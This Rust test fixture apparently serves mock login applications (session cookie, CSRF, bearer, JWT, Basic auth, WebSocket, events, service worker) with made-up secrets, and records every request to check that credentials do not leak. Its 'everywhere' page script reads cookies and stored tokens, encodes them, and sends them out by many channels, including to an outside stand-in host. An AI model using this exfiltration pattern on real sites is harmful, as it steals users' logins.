//! Applications that a person signs in to, one for each way of carrying a login. They check what arrives, and write down
//! everything that does.

use super::tls_site::TlsSite;
use super::websocket::{ServerSocket, upgrade};
use axum::Router;
use axum::body::{Body, Bytes, to_bytes};
use axum::extract::{Request, State};
use axum::http::{HeaderMap, StatusCode};
use axum::middleware::{self, Next};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::{any, get};
use futures_util::{SinkExt, StreamExt, stream};
use std::sync::{Arc, Mutex};
use tokio::sync::Notify;

pub const SESSION: &str = "Sid7f3a9c51be20d84e6690aa17";
pub const CSRF: &str = "Csrf41d8e0b7a2c95f3386de10cc";
pub const BEARER: &str = "Bearer0d9c8b7a6f5e4d3c2b1a00ff99ee";
pub const PASSWORD: &str = "correct-battery-77ce19aa";
/// Signed by nobody: only its signature is a secret.
pub const JWT: &str =
    "eyJhbGciOiJIUzI1NiJ9.eyJuYW1lIjoiQWRhIExvdmVsYWNlIn0.dGhpc2lzYXNpZ25hdHVyZXRoYXRub2JvZHlrbm93cw";
/// The signature of the token alone.
pub const JWT_SIGNATURE: &str = "dGhpc2lzYXNpZ25hdHVyZXRoYXRub2JvZHlrbm93cw";

/// Every value that must not be found anywhere but where it belongs.
pub const SECRETS: [&str; 5] = [SESSION, CSRF, BEARER, PASSWORD, JWT_SIGNATURE];

pub const BIG_BYTES: usize = 200 << 20;
const PIECE: usize = 256 << 10;

/// A request as it arrived, in one text.
#[derive(Clone, Debug)]
pub struct Arrival {
    pub host: String,
    pub method: String,
    pub target: String,
    pub headers: Vec<(String, String)>,
    pub body: String,
}

#[derive(Clone, Default)]
pub struct SealedApp {
    arrivals: Arc<Mutex<Vec<Arrival>>>,
    /// The session's value now; it changes where the application rotates it.
    session: Arc<Mutex<String>>,
    /// The page has seen an event, so the next one may come.
    next_event: Arc<Notify>,
}

impl SealedApp {
    pub fn new() -> SealedApp {
        let app = SealedApp::default();
        *app.session.lock().unwrap() = SESSION.to_owned();
        app
    }

    /// Serves all applications under these names.
    pub fn serve(&self, names: &[&str]) -> TlsSite {
        let router = Router::new()
            .route("/", get(|| async { Html("<title>Home</title><p>home") }))
            .route("/session", get(session))
            .route("/rotate", get(rotate))
            .route("/spelled", get(spelled))
            .route("/csrf", get(|| async { Html(CSRF_PAGE) }).post(csrf))
            .route("/bearer", get(|| async { Html(BEARER_PAGE) }).post(bearer))
            .route("/jwt", get(|| async { Html(JWT_PAGE) }).post(jwt))
            .route("/basic", get(basic))
            .route("/socket", get(|| async { Html(SOCKET_PAGE) }))
            .route("/socket/live", get(socket))
            .route("/events", get(|| async { Html(EVENTS_PAGE) }))
            .route("/events/stream", get(events))
            .route("/events/seen", any(event_seen))
            .route("/big", get(|| async { Html(BIG_PAGE) }))
            .route("/big/bytes", get(big))
            .route("/worker", get(|| async { Html(WORKER_PAGE) }))
            .route("/sw.js", get(worker_script))
            .route("/everywhere", get(|| async { Html(EVERYWHERE_PAGE) }))
            .route("/oauth/token", any(echo))
            .fallback(echo)
            .layer(middleware::from_fn_with_state(self.clone(), record))
            .with_state(self.clone());
        TlsSite::serve(names, router)
    }

    pub fn arrivals(&self) -> Vec<Arrival> {
        self.arrivals.lock().unwrap().clone()
    }

    pub fn forget(&self) {
        self.arrivals.lock().unwrap().clear();
    }

    pub fn session(&self) -> String {
        self.session.lock().unwrap().clone()
    }

    fn note(&self, arrival: Arrival) {
        self.arrivals.lock().unwrap().push(arrival);
    }
}

/// Writes down each request with its body, and hands it on.
async fn record(State(app): State<SealedApp>, request: Request, next: Next) -> Response {
    let is_upgrade = request.headers().contains_key("upgrade");
    let (parts, body) = request.into_parts();
    let (bytes, body) = if is_upgrade {
        (Bytes::new(), body)
    } else {
        let bytes = to_bytes(body, 1 << 20).await.unwrap_or_default();
        (bytes.clone(), Body::from(bytes))
    };
    let text = |value: &axum::http::HeaderValue| String::from_utf8_lossy(value.as_bytes()).into_owned();
    let host = parts.uri.host().map(str::to_owned).or_else(|| parts.headers.get("host").map(text));
    app.note(Arrival {
        host: host.unwrap_or_default(),
        method: parts.method.to_string(),
        target: parts.uri.to_string(),
        headers: parts.headers.iter().map(|(name, value)| (name.to_string(), text(value))).collect(),
        body: String::from_utf8_lossy(&bytes).into_owned(),
    });
    next.run(Request::from_parts(parts, body)).await
}

fn header<'a>(headers: &'a HeaderMap, name: &str) -> &'a str {
    headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or_default()
}

fn cookie(headers: &HeaderMap, name: &str) -> String {
    let all = headers.get_all("cookie").iter().filter_map(|value| value.to_str().ok());
    let mut pairs = all.flat_map(|line| line.split("; ")).filter_map(|pair| pair.split_once('='));
    pairs.find(|(known, _)| *known == name).map(|(_, value)| value.to_owned()).unwrap_or_default()
}

async fn session(State(app): State<SealedApp>, headers: HeaderMap) -> Html<String> {
    let is_known = cookie(&headers, "sid") == app.session();
    Html(if is_known { "<h1>Signed in as Ada</h1>" } else { "<h1>Signed out</h1>" }.to_owned())
}

/// Shows the session's value in a way that no proxy can rewrite.
async fn spelled(headers: HeaderMap) -> Html<String> {
    let spelled: String = cookie(&headers, "sid").chars().map(|c| format!("{c} - ")).collect();
    Html(format!("<title>Spelled</title><p>{spelled}"))
}

/// Takes the session's value once and sets the next, as applications do that rotate it.
async fn rotate(State(app): State<SealedApp>, headers: HeaderMap) -> Response {
    if cookie(&headers, "sid") != app.session() {
        return Html("<h1>Signed out</h1>").into_response();
    }
    let next = format!("Next{}", engine::random::token(24));
    *app.session.lock().unwrap() = next.clone();
    let line = format!("sid={next}; Path=/; HttpOnly; Secure; SameSite=Lax");
    ([("set-cookie", line)], Html(format!("<h1>Signed in as Ada</h1><p>now {next}"))).into_response()
}

async fn csrf(headers: HeaderMap) -> String {
    let right = cookie(&headers, "csrftoken") == CSRF && header(&headers, "x-csrftoken") == CSRF;
    format!("csrf {}", if right { "right" } else { "wrong" })
}

async fn bearer(headers: HeaderMap) -> String {
    let right = header(&headers, "authorization") == format!("Bearer {BEARER}");
    format!("bearer {} and echo {}", if right { "right" } else { "wrong" }, header(&headers, "authorization"))
}

async fn jwt(headers: HeaderMap) -> String {
    let right = header(&headers, "authorization") == format!("Bearer {JWT}");
    format!("jwt {}", if right { "right" } else { "wrong" })
}

async fn basic(headers: HeaderMap) -> Response {
    use base64::Engine;
    let pair = base64::engine::general_purpose::STANDARD.encode(format!("ada:{PASSWORD}"));
    if header(&headers, "authorization") == format!("Basic {pair}") {
        Html("<h1>Signed in by password</h1>").into_response()
    } else {
        (StatusCode::UNAUTHORIZED, [("www-authenticate", "Basic realm=x")], "who are you?").into_response()
    }
}

/// Echoes each message twice, and says whether the handshake was signed in.
async fn socket(State(app): State<SealedApp>, request: Request) -> Response {
    let known = cookie(request.headers(), "sid") == app.session();
    upgrade(request, move |mut socket: ServerSocket| async move {
        let hello = if known { format!("signed in with {}", app.session()) } else { "signed out".to_owned() };
        if socket.send(hello.into()).await.is_err() {
            return;
        }
        while let Some(Ok(message)) = socket.next().await {
            let Ok(text) = message.to_text().map(str::to_owned) else { return };
            app.note(Arrival {
                host: String::new(),
                method: "MESSAGE".to_owned(),
                target: "/socket/live".to_owned(),
                headers: Vec::new(),
                body: text.clone(),
            });
            if message.is_close() || socket.send(format!("{text} {text}").into()).await.is_err() {
                return;
            }
        }
    })
}

/// Three events; each waits until the page has seen the one before.
async fn events(State(app): State<SealedApp>) -> Response {
    let events = stream::unfold(0, move |number| {
        let app = app.clone();
        async move {
            if number == 3 {
                return None;
            }
            if number > 0 {
                app.next_event.notified().await;
            }
            Some((Ok::<_, std::io::Error>(format!("data: event {number}\n\n")), number + 1))
        }
    });
    ([("content-type", "text/event-stream")], Body::from_stream(events)).into_response()
}

async fn event_seen(State(app): State<SealedApp>) -> &'static str {
    app.next_event.notify_one();
    "seen"
}

async fn big() -> Response {
    let piece = Bytes::from("0123456789abcdef".repeat(PIECE / 16));
    let pieces = stream::iter((0..BIG_BYTES / PIECE).map(move |_| Ok::<_, std::io::Error>(piece.clone())));
    ([("content-type", "text/plain")], Body::from_stream(pieces)).into_response()
}

async fn worker_script() -> Response {
    let script = "addEventListener('fetch', event => { if (event.request.url.endsWith('/worker/made-up'))
        event.respondWith(new Response('made by the worker')) });
        addEventListener('activate', event => event.waitUntil(clients.claim()))";
    ([("content-type", "text/javascript")], script).into_response()
}

async fn echo(request: Request) -> Response {
    let body = to_bytes(request.into_body(), 1 << 20).await.unwrap_or_default();
    ([("access-control-allow-origin", "*")], format!("got {}", String::from_utf8_lossy(&body)))
        .into_response()
}

const CSRF_PAGE: &str = "<title>CSRF</title><p id=out>waiting<script>
const token = document.cookie.split('; ').find(pair => pair.startsWith('csrftoken=')).slice(10);
fetch('/csrf', {method: 'POST', headers: {'X-CSRFToken': token}}).then(r => r.text()).then(t => out.textContent = t)
</script>";

const BEARER_PAGE: &str = "<title>Bearer</title><p id=out>waiting<script>
fetch('/bearer', {method: 'POST', headers: {Authorization: 'Bearer ' + localStorage.getItem('token')}})
  .then(r => r.text()).then(t => out.textContent = t)
</script>";

const JWT_PAGE: &str = "<title>JWT</title><p id=who><p id=out>waiting<script>
const jwt = localStorage.getItem('jwt');
who.textContent = 'hello ' + JSON.parse(atob(jwt.split('.')[1])).name;
fetch('/jwt', {method: 'POST', headers: {Authorization: 'Bearer ' + jwt}}).then(r => r.text()).then(t => out.textContent = t)
</script>";

const SOCKET_PAGE: &str = "<title>Socket</title><p id=out>waiting<script>
const socket = new WebSocket('wss://' + location.host + '/socket/live');
const seen = [];
socket.onmessage = event => { seen.push(event.data); out.textContent = seen.join(' | ');
  if (seen.length < 3) socket.send('message ' + seen.length) };
socket.onclose = () => out.append(' closed');
</script>";

const EVENTS_PAGE: &str = "<title>Events</title><p id=out>waiting<script>
const source = new EventSource('/events/stream'); const seen = [];
source.onmessage = event => { seen.push(event.data); out.textContent = seen.join(' | ');
  if (seen.length === 3) source.close(); else fetch('/events/seen', {method: 'POST'}) };
</script>";

const BIG_PAGE: &str = "<title>Big</title><p id=out>waiting<script>
(async () => {
  const reader = (await fetch('/big/bytes')).body.getReader();
  let bytes = 0, right = true;
  for (;;) {
    const {done, value} = await reader.read();
    if (done) break;
    right &&= value[0] === '0123456789abcdef'.charCodeAt(bytes % 16);
    bytes += value.length;
  }
  out.textContent = `${bytes} bytes, ${right ? 'right' : 'wrong'}`;
})()
</script>";

const WORKER_PAGE: &str = "<title>Worker</title><p id=out>waiting<script>
(async () => {
  await navigator.serviceWorker.register('/sw.js', {scope: '/worker'});
  await navigator.serviceWorker.ready;
  if (!navigator.serviceWorker.controller) await new Promise(go => navigator.serviceWorker.oncontrollerchange = go);
  out.textContent = await (await fetch('/worker/made-up')).text();
})()
</script>";

/// Sends what the page can read of its login in every way that a script has.
const EVERYWHERE_PAGE: &str = r#"<title>Everywhere</title><p id=out>waiting
<iframe name=sink></iframe><iframe name=drain></iframe>
<form id=form method=post action=/form target=sink><input name=a><textarea name=b></textarea></form>
<form id=multi method=post action=/multipart target=drain enctype=multipart/form-data><input name=a></form>
<script>
(async () => {
  const cookies = document.cookie.split('; ').map(pair => pair.slice(pair.indexOf('=') + 1));
  const values = [...cookies, localStorage.getItem('token'), localStorage.getItem('jwt')].filter(Boolean);
  const quietly = promise => promise.catch(() => {});
  for (const value of values) {
    const bytes = btoa(value), hex = [...value].map(c => c.charCodeAt(0).toString(16)).join('');
    for (const form of [value, bytes, hex, encodeURIComponent(value), value.split('').reverse().join('')]) {
      await quietly(fetch('/query?q=' + encodeURIComponent(form)));
      await quietly(fetch('/path/' + encodeURIComponent(form)));
      await quietly(fetch('/body', {method: 'POST', body: form}));
      await quietly(fetch('/json', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({comment: form})}));
      await quietly(fetch('https://other.test/elsewhere', {method: 'POST', mode: 'no-cors', body: form}));
    }
    await quietly(fetch('/urlencoded', {method: 'POST', body: new URLSearchParams({comment: value})}));
    await quietly(fetch('/oauth/token', {method: 'POST', body: new URLSearchParams({refresh: value})}));
    navigator.sendBeacon('/beacon', value);
    form.a.value = form.b.value = multi.a.value = value;
    form.submit(); multi.submit();
    await new Promise(done => { const socket = new WebSocket('wss://' + location.host + '/socket/live');
      socket.onopen = () => socket.send('say ' + value); let n = 0; socket.onmessage = () => { if (++n > 1) done(); };
      socket.onerror = done });
    history.replaceState(null, '', '/everywhere?state=' + value);
    await quietly(fetch('/with-referrer', {referrerPolicy: 'unsafe-url'}));
  }
  for (const value of cookies)
    for (const name of ['X-Leak', 'X-Search', 'X-Comment', 'Accept-Language', 'X-Title'])
      await quietly(fetch('/header', {headers: {[name]: value}}));
  document.cookie = 'copy=' + cookies[0] + '; path=/';
  document.cookie = 'longer=x' + cookies[0] + 'y; path=/';
  await quietly(fetch('/copied-cookie'));
  out.textContent = 'all is sent, ' + values.length + ' values';
})()
</script>"#;
